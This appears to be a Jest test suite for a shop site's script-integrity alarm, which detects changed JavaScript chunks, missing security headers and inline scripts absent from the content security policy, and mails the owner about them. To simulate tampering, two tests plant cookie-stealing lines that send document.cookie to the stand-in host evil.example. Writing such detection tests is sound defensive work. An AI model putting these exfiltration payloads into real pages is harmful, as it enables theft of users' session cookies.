/** @jest-environment node */
// The script alarm's round (lib/server/csp/script-alarm.ts) against a small site of the test's own, on PGlite: a page
// and its scripts served over HTTP as a stored page is (its headers, its policy naming its inline scripts), and the
// inventory its build would have written, handed over as the Worker's entry hands it. What the build made raises
// nothing; a changed chunk mails the owner once, naming the page and the file, and never again; a catalogue change
// (new inline data, new hashes) and a page from another deployment raise nothing; one round in ten minutes however
// many servers ask.
import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { eq, sql } from 'drizzle-orm';
import { site } from '@/content/site';
import { checkServedScriptsNow } from '@/lib/server/csp/script-alarm';
import { provideScriptInventory } from '@/lib/server/csp/script-inventory-file.mjs';
import { namedScripts, servedDeploymentId } from '@/lib/server/csp/served-page';
import { claimRound, groupChanges, mailNewChanges } from '@/lib/server/csp/script-alarm-store';
import { getDatabase } from '@/lib/server/db/connection';
import { openPostgres } from '@/lib/server/db/postgres';
import { mailOutbox } from '@/lib/server/db/schema';
import { scriptAlarmChanges, scriptAlarmRounds } from '@/lib/server/db/script-alarm-schema';
import { pagePolicy } from '@/lib/server/http/page-policy.mjs';
import { commonSecurityHeaders, REPORT_TO, REPORTING_ENDPOINTS } from '@/lib/server/http/security-headers.mjs';
import { pgliteBackend, postgresBackend } from '../support/order-backends';
import { SHARED } from '../support/shared-databases';

// The outbox is what is asserted; sending it is the mail suites' subject.
jest.mock('@/lib/server/mail/deliver', () => ({ deliverQueuedMailSoon: () => undefined }));

const chunk = (name: string) => `/_next/static/chunks/${name}.js`;
const sha256 = (text: string) => `sha256-${createHash('sha256').update(text).digest('base64')}`;

/** What the test's site serves; each test changes what it needs, and the next starts from the build's again. */
type Site = {
  deployment: string;
  pageData: string;
  files: Record<string, string>;
  headers: Record<string, string>;
  /** Put into the page on its way, after its policy was computed (a proxy's, a poisoned cache's). */
  injected: string;
  /** What follows the page's policy: over HTTPS, report-to. */
  policyEnd: string;
};
const built = (): Site => ({
  deployment: 'd1',
  injected: '',
  policyEnd: '',
  pageData: 'Moringa: GHS 45',
  files: {
    [chunk('runtime')]: '(globalThis.TURBOPACK||=[]).push(["runtime"])',
    [chunk('products')]: '(globalThis.TURBOPACK||=[]).push(["products"])',
    [chunk('paystack')]: 'class PaystackPop{}',
  },
  headers: Object.fromEntries(commonSecurityHeaders.map(({ key, value }) => [key, value])),
});
let served = built();

/** The page as the build's loader writes it (its scripts in its arguments), with Next's page data after it. */
const pageHtml = (now: Site) =>
  `<!DOCTYPE html><html data-dpl-id="${now.deployment}" lang="en"><head>` +
  `<script data-page-scripts="">(function(o,l){})(["${chunk('runtime')}?dpl=${now.deployment}",` +
  `"${chunk('products')}?dpl=${now.deployment}"],[])</script><title>Products</title></head>` +
  `<body><main>${now.pageData}</main><script>self.__next_f.push([1,"${now.pageData}"])</script></body></html>`;

let server: Server;
let origin: string;
beforeAll(async () => {
  for (const level of ['info', 'warn'] as const) jest.spyOn(console, level).mockImplementation(() => undefined);
  await pgliteBackend.setUp();
  server = createServer((request, response) => {
    const path = new URL(request.url!, 'http://x').pathname;
    if (path === '/Products') {
      const html = pageHtml(served);
      const policy = `${pagePolicy(html)}${served.policyEnd}`;
      const headers = { 'content-type': 'text/html', 'content-security-policy': policy, ...served.headers };
      response.writeHead(200, headers).end(html.replace('</body>', `${served.injected}</body>`));
    } else if (served.files[path] !== undefined) {
      response.writeHead(200, { 'content-type': 'application/javascript' }).end(served.files[path]);
    } else response.writeHead(404).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  process.env.SITE_URL = origin;
  // The inventory of the build the site was made by, as build/script-inventory.mjs writes it.
  const build = built();
  provideScriptInventory({
    format: 'mhv-script-inventory',
    version: 1,
    deploymentId: build.deployment,
    scripts: Object.fromEntries(
      Object.entries(build.files).map(([address, text]) => [
        address,
        { sha256: sha256(text), bytes: text.length, kind: address.includes('paystack') ? 'paystack' : 'page-code' },
      ]),
    ),
    pages: {
      '/Products': {
        scripts: [chunk('runtime'), chunk('products')],
        preloads: [],
        otherScripts: [],
        headers: {
          ...Object.fromEntries(Object.entries(build.headers).map(([name, value]) => [name.toLowerCase(), value])),
          'content-security-policy': pagePolicy(pageHtml(build)),
        },
      },
    },
  });
});
afterAll(async () => {
  provideScriptInventory(undefined);
  delete process.env.SITE_URL;
  await new Promise((resolve) => server.close(resolve));
  await pgliteBackend.tearDown();
  jest.restoreAllMocks();
});
beforeEach(() => {
  served = built();
});

/** A round as the next one would run: the last one began more than ten minutes ago. */
async function round() {
  const { db } = await getDatabase();
  await db.update(scriptAlarmRounds).set({ startedAt: sql`now() - interval '11 minutes'` });
  return checkServedScriptsNow();
}
async function alarmMails() {
  const { db } = await getDatabase();
  return db.select().from(mailOutbox).where(eq(mailOutbox.kind, 'script-alarm')).orderBy(mailOutbox.id);
}

it('raises nothing while the site serves what its build made, and checks every script the build has', async () => {
  expect(await round()).toEqual({ pages: 1, scripts: 3, skipped: [], changes: [], mailed: 0 });
  expect(await alarmMails()).toEqual([]);
});

it('mails the owner once when a chunk changes, naming the page and the file, and not again the next round', async () => {
  served.files[chunk('products')] += ';fetch("https://evil.example/"+document.cookie)';
  const line =
    `/Products: ${chunk('products')} (page-code) changed (${sha256(served.files[chunk('products')])}, ` +
    `expected ${sha256(built().files[chunk('products')])})`;
  expect(await round()).toMatchObject({ changes: [line], mailed: 1 });
  const mails = await alarmMails();
  expect(mails).toHaveLength(1);
  expect(mails[0]).toMatchObject({ recipient: site.email, kind: 'script-alarm' });
  expect(mails[0].body).toContain(`  ${line}\n`);
  expect(mails[0].body).toContain('deployment\nd1');
  // Still changed: found again, not mailed again.
  expect(await round()).toMatchObject({ changes: [line], mailed: 0 });
  expect(await alarmMails()).toHaveLength(1);
});

it('raises nothing for a catalogue change: new page data, and a policy naming its new inline scripts', async () => {
  served.pageData = 'Moringa: GHS 52, sold out';
  expect(await round()).toMatchObject({ pages: 1, changes: [], mailed: 0 });
});

it('raises nothing for what an answer over HTTPS adds, and mails reports sent anywhere else', async () => {
  served.policyEnd = REPORT_TO;
  served.headers['Reporting-Endpoints'] = REPORTING_ENDPOINTS;
  expect(await round()).toMatchObject({ pages: 1, changes: [], mailed: 0 });
  served.headers['Reporting-Endpoints'] = 'csp="https://collector.example/r"';
  served.policyEnd = '; report-to elsewhere';
  const outcome = await round();
  expect(outcome?.changes).toEqual([
    expect.stringMatching(/^\/Products: Content-Security-Policy changed: .*; report-to elsewhere$/),
    '/Products: Reporting-Endpoints changed: csp="https://collector.example/r"',
  ]);
  expect(outcome?.mailed).toBe(2);
});

it('skips, and says so, a page another deployment served: the round is comparing with the wrong build', async () => {
  served.deployment = 'd2';
  served.files[chunk('paystack')] = 'class PaystackPop{steal(){}}';
  expect(await round()).toEqual({
    pages: 0,
    scripts: 0,
    skipped: ['/Products: deployment d2 served it'],
    changes: [],
    mailed: 0,
  });
  // Recorded where the round keeps its outcome.
  const { db } = await getDatabase();
  const [row] = await db.select().from(scriptAlarmRounds);
  expect(row.outcome).toBe(
    '0 page(s) and 0 script(s) checked, 0 change(s), 0 mailed now; skipped /Products (deployment d2 served it)',
  );
});

it('mails a missing header, an inline script the policy does not name, and a changed file no page names', async () => {
  const mailsBefore = (await alarmMails()).length;
  delete served.headers['X-Frame-Options'];
  served.injected = '<script>new Image().src="https://evil.example/?"+document.cookie</script>';
  const injected = `sha256-${createHash('sha256').update('new Image().src="https://evil.example/?"+document.cookie').digest('base64')}`;
  served.files[chunk('paystack')] = 'class PaystackPop{steal(){}}';
  const { db } = await getDatabase();
  const outcome = await round();
  expect(outcome?.changes).toEqual([
    '/Products: X-Frame-Options is missing',
    `/Products: an inline script (${injected}) is not in its policy`,
    `(loaded on demand by the pages): ${chunk('paystack')} (paystack) changed (${sha256(served.files[chunk('paystack')])}, expected ${sha256(built().files[chunk('paystack')])})`,
  ]);
  expect(await alarmMails()).toHaveLength(mailsBefore + 1);
  const [row] = await db.select().from(scriptAlarmRounds);
  expect(row.outcome).toBe('1 page(s) and 3 script(s) checked, 3 change(s), 3 mailed now');
});

it('runs one round in ten minutes, however many servers ask at once', async () => {
  const { db } = await getDatabase();
  await db.update(scriptAlarmRounds).set({ startedAt: sql`now() - interval '11 minutes'` });
  const rounds = await Promise.all([checkServedScriptsNow(), checkServedScriptsNow(), checkServedScriptsNow()]);
  expect(rounds.filter((outcome) => outcome !== null)).toHaveLength(1);
  expect(await checkServedScriptsNow()).toBeNull();
});

it("reads every script a page names: its tags, preloads, the loader's list and Next's page data", () => {
  const html =
    '<html data-dpl-id="d9"><head><link rel="preload" as="script" href="/_next/static/chunks/a.js?dpl=d9"/>' +
    '<script src="https://cdn.example/x.js"></script><script data-page-scripts="">f(["/_next/static/chunks/b.js?dpl=d9"])' +
    '</script></head><body><script>self.__next_f.push([1,"1:I[1,[\\"/_next/static/chunks/c.js?dpl=d9\\"]]"])</script>' +
    '<script src="/_next/static/chunks/b.js?dpl=d9" noModule=""></script></body></html>';
  expect(namedScripts(html, 'https://shop.example').map((script) => [script.address, script.sameOrigin])).toEqual([
    ['https://cdn.example/x.js', false],
    ['/_next/static/chunks/b.js', true],
    ['/_next/static/chunks/c.js', true],
    ['/_next/static/chunks/a.js', true],
  ]);
  expect(servedDeploymentId(html)).toBe('d9');
  expect(servedDeploymentId(html.replace(' data-dpl-id="d9"', ''))).toBe('d9');
  expect(servedDeploymentId('<html><body>no scripts</body></html>')).toBeNull();
});

const postgres = process.env[SHARED.postgresUrl] ? describe : describe.skip;

postgres('two servers on one Postgres', () => {
  beforeAll(() => postgresBackend.setUp());
  afterAll(() => postgresBackend.tearDown());

  it('start one round between them, and mail once a change both found at the same moment', async () => {
    const { db: first } = await getDatabase();
    const other = await openPostgres(postgresBackend.url!, { migrate: false });
    const found = [{ key: ['changed', chunk('products'), 'sha256-new'], page: '/Products', what: 'changed' }];
    try {
      for (let attempt = 0; attempt < 5; attempt += 1) {
        for (const table of [scriptAlarmRounds, scriptAlarmChanges, mailOutbox]) await first.delete(table);
        expect((await Promise.all([claimRound(first), claimRound(other.db)])).filter(Boolean)).toHaveLength(1);
        const changes = groupChanges('d1', found);
        const mailed = await Promise.all([
          mailNewChanges(first, 'd1', changes, new Date()),
          mailNewChanges(other.db, 'd1', changes, new Date()),
        ]);
        expect(mailed.flat()).toHaveLength(1);
        expect(await alarmMails()).toHaveLength(1);
      }
    } finally {
      await other.close();
    }
  });
});
